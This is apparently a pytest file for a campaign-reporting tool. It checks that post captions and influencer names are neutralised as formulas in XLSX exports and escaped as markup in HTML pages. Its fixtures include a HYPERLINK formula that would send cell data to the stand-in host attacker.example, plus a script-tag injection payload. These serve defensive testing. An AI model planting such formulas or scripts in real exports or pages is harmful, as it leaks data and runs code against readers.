"""Captions and names are data: never a formula in a workbook, never markup in a page."""

import io

import openpyxl
import sqlalchemy as sa

from influscope.report.campaign_report import build_campaign_report
from influscope.report.render_html import render_html
from influscope.report.render_xlsx import render_xlsx
from influscope.report.safety import neutralise
from influscope.store import schema
from influscope.store.writes import save_batch
from tests.engines.scenario import scenario_batch
from tests.report.conftest import TODAY

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Voir la vidéo")'
SCRIPT = "<script>alert('pwned')</script> Routine du soir"


def test_text_starting_like_a_formula_gets_a_leading_apostrophe_and_numbers_stay_numbers():
    for text in ("=1+2", "+33 6 12 34 56 78", "-30 % ce soir", "@maisonlumiere", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("Routine du soir") == "Routine du soir"
    assert neutralise(-30.5) == -30.5
    assert neutralise(None) is None


def test_formula_caption_stays_text_in_the_workbook_and_script_is_escaped_in_html(tmp_path):
    from influscope.store import database, migrate

    engine = database.create_engine(str(tmp_path / "store.duckdb"))
    migrate.upgrade(engine)
    with engine.begin() as conn:
        save_batch(conn, workspace="Maison Test", batch=scenario_batch())
        campaign = conn.execute(
            sa.select(schema.campaign.c.id).where(schema.campaign.c.name == "Printemps Éclat")
        ).scalar_one()
        posts = (
            conn.execute(sa.select(schema.post.c.id).where(schema.post.c.campaign_id == campaign))
            .scalars()
            .all()
        )
        # Every post of the campaign carries the hostile caption, so the top posts show it.
        conn.execute(
            sa.update(schema.post).where(schema.post.c.id.in_(posts)).values(caption=FORMULA)
        )
        conn.execute(
            sa.update(schema.influencer)
            .where(schema.influencer.c.name == "Léa Martin")
            .values(name=SCRIPT)
        )
    report = build_campaign_report(
        engine, campaign="Printemps Éclat", workspace="Maison Test", today=TODAY
    )
    engine.dispose()
    workbook = openpyxl.load_workbook(io.BytesIO(render_xlsx(report, specs={})))
    captions = [row[4] for row in workbook["top_posts"].iter_rows(min_row=2, values_only=True)]
    assert captions and all(caption == "'" + FORMULA for caption in captions)
    cell = workbook["top_posts"]["E2"]
    assert cell.data_type == "s"
    page = render_html(report)
    assert "<script>" not in page
    assert "&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;" in page
